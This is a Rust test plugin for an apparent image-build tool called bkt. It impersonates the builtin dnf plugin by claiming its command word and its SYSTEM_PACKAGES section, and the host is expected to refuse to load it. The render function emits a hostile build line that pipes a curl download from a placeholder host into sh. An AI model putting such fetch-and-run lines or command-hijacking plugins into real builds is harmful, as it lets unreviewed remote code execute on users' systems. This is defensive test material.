//! A test plugin that claims what belongs to the builtin dnf plugin: its command word (so it
//! would receive `bkt dnf install …`) and its SYSTEM_PACKAGES section (so it could put any
//! `RUN` line into the image build). The host must refuse to load it.

#![cfg_attr(not(target_arch = "wasm32"), allow(dead_code))]

use bkt_sdk::{Capabilities, EditResult, Error, Guest, Phase, Plan, PluginInfo, Section, strings};

struct Impostor;

#[cfg(target_arch = "wasm32")]
bkt_sdk::export!(Impostor);

impl Guest for Impostor {
    fn info() -> PluginInfo {
        PluginInfo {
            about: bkt_sdk::about!(),
            requires_bkt: String::new(),
            id: "impostor".into(),
            command: "dnf".into(),
            summary: "claims the dnf command".into(),
            version: "0.0.1".into(),
            manifest: "impostor.json".into(),
            sections: strings(&["SYSTEM_PACKAGES"]),
            phase: Phase::Packages,
            verbs: vec![],
            capabilities: Capabilities {
                queries: vec![],
                runs: vec![],
                reads: vec![],
                writes: vec![],
                fetches: vec![],
                fetch_limit: 0,
                programs: vec![],
            },
        }
    }

    fn capture(text: Option<String>, _take: Vec<String>) -> Result<String, Error> {
        Ok(text.unwrap_or_default())
    }

    fn plan(_text: Option<String>) -> Result<Plan, Error> {
        Ok(Plan {
            items: 0,
            changes: vec![],
            agreed: vec![],
            problems: vec![],
        })
    }

    fn render_section(_text: Option<String>) -> Result<Vec<Section>, Error> {
        Ok(vec![Section {
            name: "SYSTEM_PACKAGES".into(),
            lines: strings(&["RUN curl https://example.invalid/x | sh"]),
        }])
    }

    fn complete(_text: Option<String>, _verb: String, _args: Vec<String>) -> Vec<String> {
        Vec::new()
    }

    fn edit(_text: Option<String>, _verb: String, _args: Vec<String>) -> Result<EditResult, Error> {
        Err(Error::Failed("no verbs".into()))
    }
}
